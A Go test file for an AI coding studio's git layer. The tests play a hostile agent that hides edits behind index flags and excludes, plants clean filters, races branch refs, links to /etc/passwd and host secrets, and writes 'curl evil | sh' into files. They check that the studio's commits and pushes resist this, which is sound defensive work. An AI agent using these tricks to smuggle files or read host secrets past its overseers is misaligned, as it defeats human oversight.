package gitops

import (
	"context"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"reflect"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/codex-studio/studio-action/internal/ghemu"
	"golang.org/x/sys/unix"
)

// Each test here plays the agent: it shapes the workspace (including its .git) the way a hostile
// model with a shell can, then checks what the studio's git sees, commits and pushes.

func agentGit(t *testing.T, dir string, args ...string) {
	t.Helper()
	cmd := exec.Command("git", append([]string{"-C", dir, "-c", "user.name=agent", "-c", "user.email=a@b"}, args...)...)
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("agent git %v: %v\n%s", args, err, out)
	}
}

func TestChangesSeeWhatIndexFlagsAndExcludesHide(t *testing.T) {
	_, repo := remote(t)
	ctx := context.Background()
	// Attack: mark a tracked file skip-worktree / assume-unchanged and edit it; list a new file in
	// .git/info/exclude; add a .gitignore of its own that ignores another new file.
	agentGit(t, repo.Dir, "update-index", "--skip-worktree", "keep/b.txt")
	agentGit(t, repo.Dir, "update-index", "--assume-unchanged", "a.txt")
	write(t, repo.Dir, "keep/b.txt", "edited behind a flag\n")
	write(t, repo.Dir, "a.txt", "edited too\n")
	write(t, repo.Dir, ".git/info/exclude", "hidden.sh\n")
	write(t, repo.Dir, "hidden.sh", "curl evil | sh\n")
	write(t, repo.Dir, "keep/.gitignore", "also-hidden.txt\n")
	write(t, repo.Dir, "keep/also-hidden.txt", "x\n")
	changes, err := repo.Changes(ctx)
	if err != nil {
		t.Fatal(err)
	}
	want := []string{"a.txt modified", "hidden.sh added", "keep/.gitignore added", "keep/also-hidden.txt added", "keep/b.txt modified"}
	if !reflect.DeepEqual(kinds(changes), want) {
		t.Fatalf("changes = %v, want %v", kinds(changes), want)
	}
}

func TestChangesHonourTheBaseCommitsGitignore(t *testing.T) {
	emu, repo := remote(t)
	ctx := context.Background()
	if _, err := emu.CommitFiles("o", "r", "main", ghemu.CommitSpec{Message: "ignore build", Files: map[string]string{".gitignore": "build/\n*.log\n"}}); err != nil {
		t.Fatal(err)
	}
	if err := repo.CheckoutBase(ctx, "main"); err != nil {
		t.Fatal(err)
	}
	write(t, repo.Dir, "build/out.o", "obj")
	write(t, repo.Dir, "run.log", "log")
	write(t, repo.Dir, "gen/keep.txt", "not ignored")
	write(t, repo.Dir, "gen/x.log", "ignored by *.log")
	changes, err := repo.Changes(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if want := []string{"gen/keep.txt added"}; !reflect.DeepEqual(kinds(changes), want) {
		t.Fatalf("changes = %v, want %v", kinds(changes), want)
	}
}

func TestCommitIgnoresPlantedFiltersAndAttributes(t *testing.T) {
	emu, repo := remote(t)
	ctx := context.Background()
	if _, err := repo.PrepareBranch(ctx, "studio/task-1", "main"); err != nil {
		t.Fatal(err)
	}
	canary := filepath.Join(t.TempDir(), "filter-ran")
	// Attack: a clean filter in .git/config, attributes in .git/info/attributes and in the tree.
	agentGit(t, repo.Dir, "config", "filter.x.clean", "sh -c 'echo ran >> "+canary+"; echo INJECTED'")
	agentGit(t, repo.Dir, "config", "filter.x.required", "true")
	write(t, repo.Dir, ".git/info/attributes", "* filter=x\n")
	write(t, repo.Dir, ".gitattributes", "*.txt filter=x text eol=crlf\n")
	content := "line one\r\nline two\n"
	write(t, repo.Dir, "a.txt", content)
	sha, err := repo.Commit(ctx, CommitRequest{Paths: []string{"a.txt"}, Message: "m\n"})
	if err != nil {
		t.Fatal(err)
	}
	if err := repo.Push(ctx, "studio/task-1"); err != nil {
		t.Fatal(err)
	}
	data, err := emu.ReadFile("o", "r", sha, "a.txt")
	got := string(data)
	if err != nil {
		t.Fatal(err)
	}
	if got != content {
		t.Fatalf("committed blob = %q, want the bytes on disk %q", got, content)
	}
	if _, err := os.Stat(canary); !os.IsNotExist(err) {
		t.Fatal("a filter planted in the workspace's .git ran inside the studio")
	}
}

func TestCommitAndPushIgnoreARacedWorkspaceRef(t *testing.T) {
	emu, repo := remote(t)
	ctx := context.Background()
	if _, err := repo.PrepareBranch(ctx, "studio/task-1", "main"); err != nil {
		t.Fatal(err)
	}
	// The agent's own commit with an out-of-scope file, and a loop that keeps pointing the task
	// branch (and HEAD) of the workspace at it while the studio commits and pushes.
	write(t, repo.Dir, "evil.sh", "curl evil\n")
	agentGit(t, repo.Dir, "add", "evil.sh")
	agentGit(t, repo.Dir, "-c", "core.hooksPath=/dev/null", "commit", "-qm", "agent")
	out, err := exec.Command("git", "-C", repo.Dir, "rev-parse", "HEAD").Output()
	if err != nil {
		t.Fatal(err)
	}
	evil := strings.TrimSpace(string(out))
	if err := os.Remove(filepath.Join(repo.Dir, "evil.sh")); err != nil {
		t.Fatal(err)
	}
	stop := make(chan struct{})
	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		ref := filepath.Join(repo.Dir, ".git", "refs", "heads", "studio", "task-1")
		os.MkdirAll(filepath.Dir(ref), 0o755)
		for {
			select {
			case <-stop:
				return
			default:
			}
			os.WriteFile(ref, []byte(evil+"\n"), 0o644)
			os.WriteFile(filepath.Join(repo.Dir, ".git", "HEAD"), []byte("ref: refs/heads/studio/task-1\n"), 0o644)
			time.Sleep(time.Millisecond)
		}
	}()
	write(t, repo.Dir, "a.txt", "in scope\n")
	sha, err := repo.Commit(ctx, CommitRequest{Paths: []string{"a.txt"}, Message: "m\n", Allow: func(p string) bool { return p == "a.txt" }})
	if err == nil {
		err = repo.Push(ctx, "studio/task-1")
	}
	close(stop)
	wg.Wait()
	if err != nil {
		t.Fatal(err)
	}
	if got, _ := emu.ResolveRef("o", "r", "refs/heads/studio/task-1"); got != sha {
		t.Fatalf("remote branch at %s, want the studio's commit %s", got, sha)
	}
	files, _ := emu.ChangedFiles("o", "r", sha)
	if !reflect.DeepEqual(files, []string{"a.txt"}) {
		t.Fatalf("pushed commit changes %v", files)
	}
}

func TestCommitRefusesLinksOutsideNestedReposAndGitPaths(t *testing.T) {
	_, repo := remote(t)
	ctx := context.Background()
	if _, err := repo.PrepareBranch(ctx, "studio/task-1", "main"); err != nil {
		t.Fatal(err)
	}
	must := func(err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
	}
	must(os.Symlink("/etc/passwd", filepath.Join(repo.Dir, "passwd")))
	must(os.Symlink("../../outside", filepath.Join(repo.Dir, "keep", "up")))
	must(os.Symlink("b.txt", filepath.Join(repo.Dir, "keep", "ok-link")))
	// A directory on the way replaced by a link to the host: reading through it would commit a
	// file the agent itself could not read.
	hostDir := t.TempDir()
	write(t, hostDir, "shadow", "host secret\n")
	must(os.Symlink(hostDir, filepath.Join(repo.Dir, "host")))
	agentGit(t, repo.Dir, "init", "-q", "nested")
	write(t, repo.Dir, "nested/x.txt", "x")

	changes, err := repo.Changes(ctx)
	if err != nil {
		t.Fatal(err)
	}
	byPath := map[string]Change{}
	for _, c := range changes {
		byPath[c.Path] = c
	}
	if c := byPath["nested"]; !c.Nested {
		t.Errorf("nested repository not reported as one: %+v (all: %v)", c, kinds(changes))
	}
	if c := byPath["passwd"]; c.NewMode != ModeSymlink || c.LinkTarget != "/etc/passwd" {
		t.Errorf("passwd link = %+v", c)
	}
	for _, p := range []string{"passwd", "keep/up", "nested", "host/shadow", ".git/config", "keep/../.git/config"} {
		_, err := repo.Commit(ctx, CommitRequest{Paths: []string{p}, Message: "m\n"})
		if !errors.Is(err, ErrNotCommittable) && !errors.Is(err, errSymlinkInPath) {
			t.Errorf("commit %s: err = %v, want a refusal", p, err)
		}
	}
	sha, err := repo.Commit(ctx, CommitRequest{Paths: []string{"keep/ok-link"}, Message: "m\n"})
	if err != nil {
		t.Fatalf("a link that stays inside: %v", err)
	}
	if out, _ := repo.run(ctx, "ls-tree", sha, "keep/ok-link"); !strings.HasPrefix(string(out), ModeSymlink) {
		t.Errorf("ok-link committed as %q", out)
	}
	// Discarding removes the links themselves, never what they point at.
	if err := repo.Discard(ctx, []Change{byPath["passwd"], byPath["host"], byPath["nested"]}); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat("/etc/passwd"); err != nil {
		t.Fatal("discard followed the link")
	}
	if _, err := os.Stat(filepath.Join(hostDir, "shadow")); err != nil {
		t.Fatal("discard followed the directory link")
	}
}

// A hard link gives a file that lives outside the workspace a name inside it (where
// fs.protected_hardlinks is 0 an agent can link a root-only file it cannot read): the scan reports
// the link count, the commit refuses it, and discarding it unlinks the workspace's name only.
func TestCommitRefusesHardLinksAndDiscardUnlinksOnlyTheName(t *testing.T) {
	_, repo := remote(t)
	ctx := context.Background()
	if _, err := repo.PrepareBranch(ctx, "studio/task-1", "main"); err != nil {
		t.Fatal(err)
	}
	// A sibling of the workspace on the same filesystem, as the runner's home would be.
	outside := filepath.Join(filepath.Dir(repo.Dir), "secret")
	if err := os.Mkdir(outside, 0o700); err != nil {
		t.Fatal(err)
	}
	key := filepath.Join(outside, "key")
	if err := os.WriteFile(key, []byte("host secret\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	var before unix.Stat_t
	if err := unix.Lstat(key, &before); err != nil {
		t.Fatal(err)
	}
	// A new name, and a tracked file replaced by one.
	if err := os.Link(key, filepath.Join(repo.Dir, "leak.txt")); err != nil {
		t.Fatal(err)
	}
	if err := os.Remove(filepath.Join(repo.Dir, "a.txt")); err != nil {
		t.Fatal(err)
	}
	if err := os.Link(key, filepath.Join(repo.Dir, "a.txt")); err != nil {
		t.Fatal(err)
	}
	write(t, repo.Dir, "fine.txt", "one name\n")

	changes, err := repo.Changes(ctx)
	if err != nil {
		t.Fatal(err)
	}
	links := map[string]int{}
	for _, c := range changes {
		links[c.Path+" "+string(c.Kind)] = c.Links
	}
	if want := map[string]int{"a.txt modified": 3, "leak.txt added": 3, "fine.txt added": 1}; !reflect.DeepEqual(links, want) {
		t.Fatalf("link counts = %v, want %v", links, want)
	}
	for _, paths := range [][]string{{"leak.txt"}, {"a.txt"}, {"fine.txt", "leak.txt"}} {
		if _, err := repo.Commit(ctx, CommitRequest{Paths: paths, Message: "m\n"}); !errors.Is(err, ErrNotCommittable) || !strings.Contains(err.Error(), "hard link") {
			t.Errorf("commit %v: err = %v, want a hard-link refusal", paths, err)
		}
	}
	if err := repo.Discard(ctx, changes); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Lstat(filepath.Join(repo.Dir, "leak.txt")); !os.IsNotExist(err) {
		t.Errorf("leak.txt after the discard: %v, want it gone", err)
	}
	if got, _ := os.ReadFile(filepath.Join(repo.Dir, "a.txt")); string(got) != "a\n" {
		t.Errorf("a.txt after the discard = %q, want the base's", got)
	}
	// The outside file: same inode, bytes, mode, owner and times, and its only name again.
	if got, err := os.ReadFile(key); err != nil || string(got) != "host secret\n" {
		t.Errorf("outside file = %q, %v", got, err)
	}
	var after unix.Stat_t
	if err := unix.Lstat(key, &after); err != nil {
		t.Fatal(err)
	}
	if after.Ino != before.Ino || after.Mode != before.Mode || after.Uid != before.Uid || after.Gid != before.Gid || after.Size != before.Size || after.Mtim != before.Mtim || after.Nlink != 1 {
		t.Errorf("outside file changed: before %+v, after %+v", before, after)
	}
	if os.Geteuid() == 0 && (after.Uid != 0 || after.Mode&0o777 != 0o600) {
		t.Errorf("outside file owner %d, mode %o; want root's 0600", after.Uid, after.Mode&0o777)
	}
	if ch, err := repo.Changes(ctx); err != nil || len(ch) != 0 {
		t.Fatalf("after the discard, changes = %v, %v", kinds(ch), err)
	}
}

func TestChangesReportModeChanges(t *testing.T) {
	_, repo := remote(t)
	ctx := context.Background()
	if err := os.Chmod(filepath.Join(repo.Dir, "a.txt"), 0o755); err != nil {
		t.Fatal(err)
	}
	changes, err := repo.Changes(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if len(changes) != 1 || !changes[0].ModeChanged() || changes[0].OldMode != ModeFile || changes[0].NewMode != ModeExecutable {
		t.Fatalf("changes = %+v", changes)
	}
}

func TestPushBuildsOnABranchThatMovedElsewhere(t *testing.T) {
	emu, repo := remote(t)
	ctx := context.Background()
	if _, err := emu.CommitFiles("o", "r", "studio/task-2", ghemu.CommitSpec{Message: "earlier run", Files: map[string]string{"a.txt": "earlier\n"}}); err != nil {
		t.Fatal(err)
	}
	if _, err := repo.PrepareBranch(ctx, "studio/task-2", "main"); err != nil {
		t.Fatal(err)
	}
	// A person pushes to the task branch while the studio works, on another path.
	theirs, err := emu.CommitFiles("o", "r", "studio/task-2", ghemu.CommitSpec{Message: "human fix", Files: map[string]string{"keep/b.txt": "human\n"}})
	if err != nil {
		t.Fatal(err)
	}
	write(t, repo.Dir, "a.txt", "studio\n")
	if _, err := repo.Commit(ctx, CommitRequest{Paths: []string{"a.txt"}, Message: "studio pass\n"}); err != nil {
		t.Fatal(err)
	}
	if err := repo.Push(ctx, "studio/task-2"); err != nil {
		t.Fatalf("push onto a branch that moved elsewhere: %v", err)
	}
	head, _ := emu.ResolveRef("o", "r", "refs/heads/studio/task-2")
	if head != repo.tip {
		t.Fatalf("remote at %s, want the rebuilt commit %s", head, repo.tip)
	}
	parent, _ := repo.run(ctx, "rev-parse", head+"^")
	if strings.TrimSpace(string(parent)) != theirs {
		t.Fatalf("rebuilt commit's parent = %s, want the human's %s", parent, theirs)
	}
	for path, want := range map[string]string{"a.txt": "studio\n", "keep/b.txt": "human\n"} {
		if got, _ := emu.ReadFile("o", "r", head, path); string(got) != want {
			t.Errorf("%s on the branch = %q, want %q", path, got, want)
		}
		if got, _ := os.ReadFile(filepath.Join(repo.Dir, path)); string(got) != want {
			t.Errorf("%s in the workspace = %q, want %q", path, got, want)
		}
	}
	if ch, err := repo.Changes(ctx); err != nil || len(ch) != 0 {
		t.Fatalf("after the rebuild, changes = %v, %v", kinds(ch), err)
	}
}

func TestPushStopsWhenTheBranchMovedOnTheSamePaths(t *testing.T) {
	emu, repo := remote(t)
	ctx := context.Background()
	if _, err := emu.CommitFiles("o", "r", "studio/task-3", ghemu.CommitSpec{Message: "earlier run", Files: map[string]string{"a.txt": "earlier\n"}}); err != nil {
		t.Fatal(err)
	}
	if _, err := repo.PrepareBranch(ctx, "studio/task-3", "main"); err != nil {
		t.Fatal(err)
	}
	theirs, err := emu.CommitFiles("o", "r", "studio/task-3", ghemu.CommitSpec{Message: "human edit", Files: map[string]string{"a.txt": "human\n"}})
	if err != nil {
		t.Fatal(err)
	}
	write(t, repo.Dir, "a.txt", "studio\n")
	if _, err := repo.Commit(ctx, CommitRequest{Paths: []string{"a.txt"}, Message: "studio pass\n"}); err != nil {
		t.Fatal(err)
	}
	err = repo.Push(ctx, "studio/task-3")
	if !errors.Is(err, ErrBranchMoved) || !strings.Contains(err.Error(), "`a.txt`") {
		t.Fatalf("err = %v, want ErrBranchMoved naming a.txt", err)
	}
	if head, _ := emu.ResolveRef("o", "r", "refs/heads/studio/task-3"); head != theirs {
		t.Fatalf("remote moved to %s; the human's %s must stay", head, theirs)
	}
}

// A FIFO, a socket or a device left in the workspace is none of git's business (status and
// ls-files pass over them), but the studio reports each: silently dropped, a FIFO in scope would
// never be named in the verdict, and a tracked file replaced by one looked like an edit to it. A
// device needs root (and a filesystem that allows one); FIFOs and a socket are made everywhere.
func TestChangesReportFIFOsAndSockets(t *testing.T) {
	_, repo := remote(t)
	ctx := context.Background()
	mkfifo := func(rel string) {
		t.Helper()
		p := filepath.Join(repo.Dir, rel)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := unix.Mkfifo(p, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	mkfifo("pipe")           // beside the tracked files
	mkfifo("keep/inner")     // in a tracked directory
	mkfifo("newdir/only")    // alone in a new directory (which git does not list)
	mkfifo("newdir2/deep/p") // deeper, beside a file
	write(t, repo.Dir, "newdir2/f.txt", "f\n")
	if err := os.Remove(filepath.Join(repo.Dir, "a.txt")); err != nil {
		t.Fatal(err)
	}
	mkfifo("a.txt") // a tracked file replaced by a FIFO
	sock, err := unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM, 0)
	if err != nil {
		t.Fatal(err)
	}
	defer unix.Close(sock)
	if err := unix.Bind(sock, &unix.SockaddrUnix{Name: filepath.Join(repo.Dir, "keep/sock")}); err != nil {
		t.Fatal(err)
	}
	// As root, a device too (a copy of /dev/null's numbers), where the filesystem allows one.
	device := os.Geteuid() == 0 && unix.Mknod(filepath.Join(repo.Dir, "newdir/null"), unix.S_IFCHR|0o600, int(unix.Mkdev(1, 3))) == nil
	changes, err := repo.Changes(ctx)
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]string{}
	for _, c := range changes {
		got[c.Path+" "+string(c.Kind)] = c.Special + "|" + c.NewMode
	}
	want := map[string]string{
		"a.txt modified":       "a FIFO (named pipe)|",
		"keep/inner added":     "a FIFO (named pipe)|",
		"keep/sock added":      "a socket|",
		"newdir/only added":    "a FIFO (named pipe)|",
		"newdir2/deep/p added": "a FIFO (named pipe)|",
		"newdir2/f.txt added":  "|" + ModeFile,
		"pipe added":           "a FIFO (named pipe)|",
	}
	if device {
		want["newdir/null added"] = "a device|"
	} else {
		t.Log("no device node could be made here: FIFOs and a socket only")
	}
	if !reflect.DeepEqual(got, want) {
		t.Fatalf("changes = %v\nwant      %v", got, want)
	}
	// Discarding them unlinks each without opening it (opening a FIFO would wait for a writer).
	done := make(chan error, 1)
	go func() { done <- repo.Discard(ctx, changes) }()
	select {
	case err := <-done:
		if err != nil {
			t.Fatal(err)
		}
	case <-time.After(30 * time.Second):
		t.Fatal("Discard hangs on a FIFO")
	}
	if ch, err := repo.Changes(ctx); err != nil || len(ch) != 0 {
		t.Fatalf("after the discard, changes = %v, %v", kinds(ch), err)
	}
}
